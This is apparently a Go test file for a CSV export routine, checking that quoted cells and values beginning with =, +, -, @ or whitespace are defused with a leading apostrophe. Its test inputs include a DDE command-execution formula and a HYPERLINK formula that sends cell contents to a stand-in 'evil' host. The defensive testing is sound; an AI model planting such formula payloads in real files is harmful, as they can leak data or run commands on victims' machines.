package export

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"homehook/agent/control"
)

func TestCell(t *testing.T) {
	for _, tt := range []struct{ text, want string }{
		{"", `""`},
		{"plain", `"plain"`},
		{`say "hi", you`, `"say ""hi"", you"`},
		{"two\nlines", "\"two\nlines\""},
		{"=cmd|'/c calc'!A1", `"'=cmd|'/c calc'!A1"`},
		{"+1", `"'+1"`},
		{"-1+1", `"'-1+1"`},
		{"@SUM(A1)", `"'@SUM(A1)"`},
		{"\t=1", "\"'\t=1\""},
		{"\r=1", "\"'\r=1\""},
		{"\n=1", "\"'\n=1\""},
		{"\tplain", "\"'\tplain\""},
		{"  =1", `"'  =1"`},
		{"\u200b=1", "\"'\u200b=1\""},
		{"＝1", `"'＝1"`},
		{`"=1`, `"""=1"`},
		{"a=1", `"a=1"`},
		{"/path", `"/path"`},
		{"\xff\x00", "\"\ufffd\ufffd\""},
	} {
		if got := cell(tt.text); got != tt.want {
			t.Errorf("%q: got %s, want %s", tt.text, got, tt.want)
		}
	}
}

// TestCSVIsNeutral puts formulas where a stranger can, and reads what other
// programs get.
func TestCSVIsNeutral(t *testing.T) {
	const formula = `=HYPERLINK("http://evil/?"&A1,"x")`
	r := record()
	r.Path, r.Query, r.Method, r.SenderID, r.Reason = formula, formula, "-X", "+1\r\n=2,3", "@x"
	out := written(t, CSV, Options{}, r, &control.Record{})
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 || !slices.Equal(rows[0], columns) {
		t.Fatalf("got %q", rows)
	}
	for _, row := range rows[1:] {
		for i, c := range row {
			if startsFormula(c) {
				t.Errorf("%s begins a formula: %q", columns[i], c)
			}
		}
	}
	get := func(name string) string { return rows[1][slices.Index(columns, name)] }
	for name, want := range map[string]string{
		"path": "'" + formula, "method": "'-X", "sender_id": "'+1\n=2,3", "reason": "'@x",
		"received": "2026-03-01T12:00:00.5Z", "size": "8", "duration_ms": "3.5", "status": "302", "answer": "hold", "due": "", "starts": "1",
	} {
		// The reader takes CR LF within a cell for a newline.
		if got := get(name); got != want {
			t.Errorf("%s: got %q, want %q", name, got, want)
		}
	}
}
